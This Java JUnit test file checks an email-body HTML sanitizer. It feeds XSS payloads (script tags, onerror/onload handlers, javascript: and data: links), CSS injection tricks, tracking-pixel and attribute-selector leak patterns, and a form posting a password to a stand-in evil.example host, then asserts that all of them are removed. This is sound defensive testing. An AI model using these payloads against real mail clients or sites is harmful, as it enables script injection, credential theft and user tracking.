package dev.mailroom.mailbox.render;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Locale;
import java.util.Map;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;

import dev.mailroom.mailbox.render.BodySanitizer.InlinePart;
import dev.mailroom.mailbox.render.BodySanitizer.Result;

class BodySanitizerTest {

    private static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 1, 2, 3};

    private static Result block(String html) {
        return BodySanitizer.html(html, cid -> null, false);
    }

    /** What a browser would see: the output parsed again. */
    private static Document parsed(Result r) {
        return Jsoup.parse(r.html());
    }

    private static String lower(Result r) {
        return r.html().toLowerCase(Locale.ROOT);
    }

    @Test
    void scriptsEventHandlersAndActiveElementsAreRemovedAndTheTextStays() {
        Result r = block("<p onclick=\"steal()\">Hello <b onmouseover=x()>there</b></p>"
                + "<script>alert(1)</script><SCRIPT src=https://evil.example/x.js></SCRIPT>"
                + "<img src=x onerror=\"alert(2)\"><body onload=alert(3)>"
                + "<iframe src=https://evil.example></iframe><object data=x.swf></object><embed src=x.swf>"
                + "<form action=https://evil.example/steal><input name=password><button>Go</button></form>"
                + "<svg onload=alert(4)><script>alert(5)</script><a xlink:href=javascript:alert(6)>svg</a></svg>"
                + "<math><mtext><script>alert(7)</script></mtext></math><link rel=stylesheet href=https://evil.example/c.css>");
        String out = lower(r);
        for (String bad : new String[] {"<script", "alert(", "onerror", "onclick", "onload", "onmouseover", "<iframe",
                "<object", "<embed", "<form", "<input", "<button", "<svg", "<math", "<link", "evil.example",
                "javascript:"}) {
            assertFalse(out.contains(bad), bad + " survived: " + r.html());
        }
        Document d = parsed(r);
        assertEquals("Hello there", d.selectFirst("p").text());
        assertTrue(d.text().contains("Go"), "text of removed elements stays readable");
    }

    @Test
    void linksKeepOnlySafeSchemesAndOpenAwayWithoutReferrerOrOpener() {
        Result r = block("<a href=\"javascript:alert(1)\">a</a><a href=\"JaVaScRiPt&#58;alert(1)\">b</a>"
                + "<a href=\"vbscript:msgbox(1)\">c</a><a href=\"data:text/html;base64,PHNjcmlwdD4=\">d</a>"
                + "<a href=\"https://example.org/x?y=1\">e</a><a href=\"mailto:ann@example.org\">f</a>"
                + "<a href=\"/relative\">g</a><a href=\"  java\tscript:alert(1)\">h</a>");
        Document d = parsed(r);
        for (Element a : d.select("a")) {
            String href = a.attr("href");
            if (a.text().equals("e")) {
                assertEquals("https://example.org/x?y=1", href);
            } else if (a.text().equals("f")) {
                assertEquals("mailto:ann@example.org", href);
            } else {
                assertEquals("", href, a.text() + " kept " + href);
            }
            if (!href.isEmpty()) {
                assertEquals("_blank", a.attr("target"));
                assertEquals("noopener noreferrer", a.attr("rel"));
            }
        }
        assertFalse(lower(r).contains("script:"));
        assertFalse(lower(r).contains("data:text"));
    }

    @Test
    void metaRefreshBaseAndHeadContentAreGoneButHeadStylesAreKeptSafe() {
        Result r = block("<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"
                + "<base href=\"https://evil.example/\"><title>t</title>"
                + "<style>@import url(https://evil.example/a.css); @import 'https://evil.example/b.css';"
                + " p { color: red } </style></head><body><p>x</p></body></html>");
        String out = lower(r);
        assertFalse(out.contains("refresh"), r.html());
        assertFalse(out.contains("<base"), r.html());
        assertFalse(out.contains("@import"), r.html());
        assertFalse(out.contains("evil.example"), r.html());
        assertTrue(out.contains("color: red"), "a harmless head style stays: " + r.html());
    }

    @Test
    void relativeUrlsAreNeverResolvedAgainstTheSendersBaseAndAreDropped() {
        String html = "<html><head><base href=\"https://sender.example/base/\"></head><body>"
                + "<img src=\"/base/x.png\" alt=\"rel\"><img src=\"y.png\"><img src=\"//cdn.example/z.png\">"
                + "<img src=\"https://img.example/a.png\" alt=\"abs\">"
                + "<table background=\"bg.png\"><tr><td>cell</td></tr></table>"
                + "<a href=\"page.html\">relative</a><a href=\"#top\">anchor</a>"
                + "<a href=\"https://site.example/p\">absolute</a>"
                + "<p style=\"background:url(r.png)\">styled</p><base href=\"https://late.example/\"></body></html>";
        for (boolean allow : new boolean[] {false, true}) {
            Result r = BodySanitizer.html(html, cid -> null, allow);
            String out = lower(r);
            assertFalse(out.contains("sender.example") || out.contains("late.example") || out.contains("<base"),
                    "nothing resolved against a base the sender chose: " + r.html());
            assertFalse(out.contains("x.png") || out.contains("y.png") || out.contains("bg.png")
                    || out.contains("r.png") || out.contains("page.html"), "relative URLs are dropped: " + r.html());
            Document d = parsed(r);
            assertFalse(d.select("img[alt=rel]").first().hasAttr("src"), r.html());
            assertEquals(allow ? 0 : 1, r.remoteImages(), "only the absolute image counts as remote: " + r.html());
            assertEquals(allow ? "https://img.example/a.png" : "", d.select("img[alt=abs]").attr("src"), r.html());
            assertEquals("https://site.example/p", d.select("a:contains(absolute)").attr("href"), r.html());
            assertFalse(d.select("a:contains(relative)").first().hasAttr("href"), r.html());
            assertTrue(d.text().contains("relative") && d.text().contains("cell"), "the text stays: " + r.html());
        }
    }

    @Test
    void remoteImagesAreRemovedAndCountedWhileBlockedAndKeptWhenAllowed() {
        String html = "<img src=\"https://tracker.example/p.gif\" alt=\"logo\">"
                + "<img srcset=\"https://tracker.example/a.png 1x, https://tracker.example/b.png 2x\">"
                + "<table background=\"https://tracker.example/bg.png\"><tr><td"
                + " style=\"background:url(https://tracker.example/c.png) no-repeat; color: blue\">cell</td></tr></table>"
                + "<div style=\"background-image: url('//tracker.example/d.png')\">d</div>"
                + "<style>body { background: url(\"http://tracker.example/e.png\") }"
                + " p[value^=a] { background: url(https://tracker.example/leak?a) }</style>";
        Result blocked = block(html);
        assertEquals(7, blocked.remoteImages(), blocked.html());
        assertFalse(lower(blocked).contains("tracker.example"), blocked.html());
        assertTrue(lower(blocked).contains("color: blue"), "other declarations stay: " + blocked.html());
        assertEquals("logo", parsed(blocked).selectFirst("img").attr("alt"));
        assertEquals(7, BodySanitizer.remoteImages(html));

        Result allowed = BodySanitizer.html(html, cid -> null, true);
        assertEquals(0, allowed.remoteImages());
        assertTrue(allowed.html().contains("src=\"https://tracker.example/p.gif\""), allowed.html());
        assertTrue(parsed(allowed).selectFirst("td").attr("style").contains("url(\"https://tracker.example/c.png\")"),
                allowed.html());
        assertTrue(allowed.html().contains("background=\"https://tracker.example/bg.png\""), allowed.html());
    }

    @Test
    void cssTricksCannotLoadAnythingOrBreakOutOfTheStyleElement() {
        Result r = block("<p style=\"width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#y)\">a</p>"
                + "<p style=\"background: u\\72l(https://evil.example/x.png)\">b</p>"
                + "<p style=\"background-image: image-set('https://evil.example/y.png' 1x)\">c</p>"
                + "<p style=\"background: url(javascript:alert(1))\">d</p>"
                + "<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }"
                + " /* </style><script>alert(1)</script> */ p { color: green }"
                + " .x::after { content: \"</style><img src=x onerror=alert(1)>\" }</style>");
        String out = lower(r);
        assertFalse(out.contains("evil.example"), r.html());
        assertFalse(out.contains("expression("), r.html());
        assertFalse(out.contains("javascript:"), r.html());
        assertFalse(out.contains("-moz-binding"), r.html());
        assertFalse(out.contains("@font-face"), r.html());
        assertFalse(out.contains("x.htc"), r.html());
        // the parser ends a <style> at the first </style> (as browsers do): what follows is markup, cleaned as such
        Document d = parsed(r);
        assertEquals(0, d.select("script").size(), r.html());
        for (Element img : d.select("img")) {
            assertTrue(img.attributes().isEmpty(), "an image with nothing to load or run: " + r.html());
        }
        assertEquals(2, d.select("style").size(), "the document's own style and the message's: " + r.html());
        assertEquals("none", d.select("p").get(1).attr("style").replace("background:", "").trim(),
                "an escaped url( is still a url(: " + r.html());
    }

    @Test
    void cidImagesBecomeDataUrisOfTheMessagesOwnPartsAndMissingOnesAPlaceholder() {
        Map<String, InlinePart> parts = Map.of(
                "logo@example.org", new InlinePart("image/png", PNG),
                "evil@example.org", new InlinePart("image/svg+xml",
                        "<svg onload=alert(1)></svg>".getBytes(StandardCharsets.UTF_8)));
        Result r = BodySanitizer.html("<img src=\"cid:logo@example.org\" alt=\"Logo\">"
                + "<img src=\"cid:&lt;logo@example.org&gt;\"><img src=\"cid:gone@example.org\" alt=\"Chart\">"
                + "<img src=\"cid:evil@example.org\"><td background=\"cid:logo@example.org\">x</td>",
                parts::get, false);
        Document d = parsed(r);
        String data = "data:image/png;base64," + Base64.getEncoder().encodeToString(PNG);
        assertEquals(data, d.select("img").get(0).attr("src"));
        assertEquals(data, d.select("img").get(1).attr("src"));
        assertEquals(2, d.select("img").size(), "the missing and the SVG part are no images: " + r.html());
        assertTrue(d.text().contains("[Chart not available]"), r.html());
        assertFalse(r.html().contains("svg"), r.html());
        assertEquals(0, r.remoteImages());
    }

    @Test
    void aTextBodyIsEscapedInAPre() {
        String html = BodySanitizer.text("<script>alert(1)</script>\nline two & more");
        Document d = Jsoup.parse(html);
        assertEquals(0, d.select("script").size());
        assertEquals("<script>alert(1)</script>\nline two & more", d.selectFirst("pre").wholeText());
    }
}
